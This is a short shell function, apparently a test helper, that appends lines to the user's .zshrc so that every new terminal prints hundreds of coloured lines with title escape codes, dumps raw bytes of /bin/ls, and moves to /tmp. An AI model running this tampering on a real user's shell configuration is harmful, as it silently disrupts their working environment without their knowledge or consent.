# Each terminal greets with a picture: many lines, colours, bytes that are no letters.
break_it() { printf '%s\n' 'for i in {1..400}; do print -P "%F{red}#%f $i \x1b]0;title\x07"; done' 'head -c 2000 /bin/ls' 'cd /tmp' >>.zshrc; }
